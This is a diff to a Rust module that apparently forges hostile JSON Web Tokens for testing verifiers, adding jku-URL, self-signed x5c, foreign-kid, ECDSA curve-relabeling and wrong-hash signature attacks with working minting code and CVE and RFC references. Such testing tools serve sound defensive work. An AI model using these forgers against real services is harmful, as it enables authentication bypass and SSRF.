@@ -10,10 +10,13 @@
 //! No forger panics: an attack that does not fit the keys (an ECDSA attack on an RSA key, a
 //! PKCS#1 PEM of an EC key, a `kid` attack on a key without `kid`) returns [`NotApplicable`].
 
+pub mod cert;
 mod tamper;
+pub mod vectors;
 
 pub use tamper::{Tamper, TamperExt, tamper, tamper_all};
 
+use base64::Engine;
 use serde_json::json;
 
 use crate::alg::{Algorithm, EcCurve, KeyFamily};
@@ -189,6 +192,13 @@ pub enum Attack {
     Jku,
     /// Header `x5u` = listener URL, signed by the attacker key with its kid.
     X5u,
+    /// Header `jku` = the given URL (e.g. the victim's own JWKS), signed by the attacker key
+    /// with its kid: a verifier that allow-lists `jku` must still verify with its own keys.
+    /// Parametrized, so not in [`Attack::catalogue`].
+    JkuAt(String),
+    /// Header `x5c` = a self-signed certificate for the attacker key ([`cert::self_signed`]),
+    /// signed by it with its kid.
+    X5c,
     /// A hostile `kid`, HS256 with the given secret.
     KidInjection {
         kid: &'static str,
@@ -202,6 +212,16 @@ pub enum Attack {
     KidWithOtherKeyType,
     /// RS256 ↔ PS256 with the same RSA key.
     RsaFamilySwitch,
+    /// Validly signed by the victim under its own `alg`, but with `kid` naming another key
+    /// (of another key type or curve) of the same issuer: the kid must bind the key.
+    /// Parametrized, so not in [`Attack::catalogue`].
+    ForeignKid(String),
+    /// ECDSA: header `alg` names the other curve's algorithm (ES256 ↔ ES384), the signature is
+    /// the victim's own: `alg` binds the curve.
+    CurveRelabeled,
+    /// ECDSA: `alg` unchanged, the signature is over the SHA-256 digest on P-384 (over the
+    /// SHA-384 digest, truncated, on P-256): `alg` binds the hash.
+    EcdsaWrongHash,
     /// Header `{"alg":<victim alg>,…,"alg":"none"}` with an empty signature; the payload text
     /// of a valid token kept.
     DuplicateAlgNone,
@@ -274,6 +294,7 @@ impl Attack {
             },
             Attack::Jku,
             Attack::X5u,
+            Attack::X5c,
         ]);
         all.extend(
             KID_INJECTIONS
@@ -293,6 +314,8 @@ impl Attack {
             Attack::KidWithHmac,
             Attack::KidWithOtherKeyType,
             Attack::RsaFamilySwitch,
+            Attack::CurveRelabeled,
+            Attack::EcdsaWrongHash,
             Attack::DuplicateAlgNone,
             Attack::DuplicateAud {
                 other: "https://other.test/mcp",
@@ -356,11 +379,16 @@ impl Attack {
             ),
             Attack::Jku => "jku".into(),
             Attack::X5u => "x5u".into(),
+            Attack::JkuAt(url) => format!("jku-at-{url}"),
+            Attack::X5c => "x5c".into(),
             Attack::KidInjection { kid, secret } => format!("kid-injection-{kid:?}-{secret:?}"),
             Attack::Crit(form) => format!("crit-{form:?}"),
             Attack::KidWithHmac => "kid-with-hs256".into(),
             Attack::KidWithOtherKeyType => "kid-with-other-key-type".into(),
             Attack::RsaFamilySwitch => "rsa-family-switch".into(),
+            Attack::ForeignKid(kid) => format!("foreign-kid-{kid}"),
+            Attack::CurveRelabeled => "ecdsa-curve-relabeled".into(),
+            Attack::EcdsaWrongHash => "ecdsa-wrong-hash".into(),
             Attack::DuplicateAlgNone => "duplicate-alg-none".into(),
             Attack::DuplicateAud { .. } => "duplicate-aud".into(),
             Attack::Malformed(s) => format!("malformed-{s:?}"),
@@ -416,11 +444,17 @@ impl Attack {
             Attack::EmbeddedJwk { .. } => {
                 p(&["CVE-2018-0114"], "header key trusted", "jwt_tool -X i")
             }
-            Attack::Jku | Attack::X5u => p(&[], "header key URL trusted (SSRF)", "jwt_tool -X s"),
+            Attack::Jku | Attack::X5u | Attack::JkuAt(_) => {
+                p(&[], "header key URL trusted (SSRF)", "jwt_tool -X s")
+            }
+            Attack::X5c => p(&[], "header certificate trusted", "RFC 7515 §4.1.6"),
             Attack::KidInjection { .. } => p(&[], "kid injection", "jwt_tool playbook"),
             Attack::Crit(_) => p(&[], "crit not enforced", "RFC 7515 §4.1.11"),
-            Attack::KidWithOtherKeyType | Attack::RsaFamilySwitch => {
+            Attack::KidWithOtherKeyType | Attack::RsaFamilySwitch | Attack::ForeignKid(_) => {
                 p(&[], "one key, several algorithms", "RFC 8725 §3.1")
+            }
+            Attack::CurveRelabeled | Attack::EcdsaWrongHash => {
+                p(&[], "alg does not bind curve and hash", "RFC 7518 §3.4")
             }
             Attack::DuplicateAud { .. } => {
                 p(&[], "duplicate member parser differential", "RFC 7519 §4")
@@ -475,6 +509,10 @@ impl Attack {
             ),
             Attack::Jku => "header jku = listener URL, signed by the attacker key".into(),
             Attack::X5u => "header x5u = listener URL, signed by the attacker key".into(),
+            Attack::JkuAt(url) => format!("header jku = {url}, signed by the attacker key"),
+            Attack::X5c => {
+                "header x5c = a self-signed certificate for the attacker key, signed by it".into()
+            }
             Attack::KidInjection { kid, secret } => {
                 format!("kid {kid:?}, alg HS256 MACed with {secret:?}")
             }
@@ -484,6 +522,15 @@ impl Attack {
                 "victim kid with an algorithm of another key type".into()
             }
             Attack::RsaFamilySwitch => "RS256 <-> PS256 signed with the same RSA key".into(),
+            Attack::ForeignKid(kid) => {
+                format!("validly signed by the victim key, with kid {kid:?} naming another key")
+            }
+            Attack::CurveRelabeled => {
+                "ECDSA alg of the other curve (ES256 <-> ES384), the victim's own signature".into()
+            }
+            Attack::EcdsaWrongHash => {
+                "ECDSA alg unchanged, signed over SHA-256 on P-384 (SHA-384 on P-256)".into()
+            }
             Attack::DuplicateAlgNone => "header alg twice, the last one none; no signature".into(),
             Attack::DuplicateAud { other } => {
                 format!("aud twice, the last one {other:?}; validly signed")
@@ -614,6 +661,14 @@ impl Attack {
             }
             Attack::Jku => ctx.spec.clone().jku(ctx.listener_url).mint(ctx.attacker),
             Attack::X5u => ctx.spec.clone().x5u(ctx.listener_url).mint(ctx.attacker),
+            Attack::JkuAt(url) => ctx.spec.clone().jku(url).mint(ctx.attacker),
+            Attack::X5c => {
+                let der = cert::self_signed(ctx.attacker).ok_or_else(|| {
+                    self.not_applicable("no X.509 certificate for the attacker key type")
+                })?;
+                let x5c = json!([base64::engine::general_purpose::STANDARD.encode(der)]);
+                ctx.spec.clone().header("x5c", x5c).mint(ctx.attacker)
+            }
             Attack::KidInjection { kid, secret } => ctx
                 .spec
                 .clone()
@@ -650,6 +705,28 @@ impl Attack {
                 };
                 ctx.spec.clone().alg(other).mint(victim)
             }
+            Attack::ForeignKid(kid) => ctx.spec.clone().kid(kid).mint(victim),
+            Attack::CurveRelabeled => {
+                let other = match ec_curve()? {
+                    EcCurve::P256 => "ES384",
+                    EcCurve::P384 => "ES256",
+                    EcCurve::P521 => return Err(self.not_applicable("needs a P-256 or P-384 key")),
+                };
+                // Signed over the relabeled header: only the label lies.
+                jws::sign_raw(
+                    &header_with_alg(other).to_bytes(),
+                    &ctx.spec.claims_json().to_bytes(),
+                    victim,
+                )
+            }
+            Attack::EcdsaWrongHash => {
+                let curve = ec_curve()?;
+                let unsigned = ctx.spec.unsigned(victim);
+                let input = unsigned.trim_end_matches('.');
+                let sig = ecdsa_over_other_hash(victim, curve, input.as_bytes())
+                    .ok_or_else(|| self.not_applicable("needs a P-256 or P-384 key"))?;
+                tamper(&unsigned, &Tamper::SetSignature(sig))
+            }
             Attack::DuplicateAlgNone => {
                 let mut header = ctx.spec.final_header(victim);
                 header.push_duplicate("alg", "none");
@@ -680,6 +757,43 @@ impl Attack {
             }
         })
     }
+}
+
+/// ECDSA over the digest of the hash `alg` does not name: SHA-256 on P-384, SHA-384 on
+/// P-256 (bits2int keeps its leftmost 256 bits), low-S like every signature we make.
+fn ecdsa_over_other_hash(key: &SigningKey, curve: EcCurve, message: &[u8]) -> Option<Vec<u8>> {
+    use aws_lc_rs::digest;
+    use aws_lc_rs::signature::{
+        ECDSA_P256_SHA256_FIXED_SIGNING, ECDSA_P384_SHA384_FIXED_SIGNING, EcdsaKeyPair,
+    };
+    let (signing, own_hash, other_hash) = match curve {
+        EcCurve::P256 => (
+            &ECDSA_P256_SHA256_FIXED_SIGNING,
+            &digest::SHA256,
+            &digest::SHA384,
+        ),
+        EcCurve::P384 => (
+            &ECDSA_P384_SHA384_FIXED_SIGNING,
+            &digest::SHA384,
+            &digest::SHA256,
+        ),
+        EcCurve::P521 => return None,
+    };
+    let pkcs8 = pem::parse(key.to_pkcs8_pem()?).ok()?.into_contents();
+    let pair = EcdsaKeyPair::from_pkcs8(signing, &pkcs8).ok()?;
+    let other = digest::digest(other_hash, message);
+    let other = other.as_ref();
+    // The integer ECDSA signs is the other digest's leftmost bits, in the width of the curve's
+    // own hash: truncated when longer, zero-padded on the left when shorter.
+    let width = own_hash.output_len();
+    let value = if other.len() >= width {
+        other[..width].to_vec()
+    } else {
+        [vec![0; width - other.len()], other.to_vec()].concat()
+    };
+    let prehashed = digest::Digest::import_less_safe(&value, own_hash).ok()?;
+    let sig = pair.sign_digest(&prehashed).ok()?;
+    Some(ecdsa::normalize_low_s(curve, sig.as_ref().to_vec()))
 }
 
 /// Structural defects of a valid token (`valid` mints a fresh one on each call).
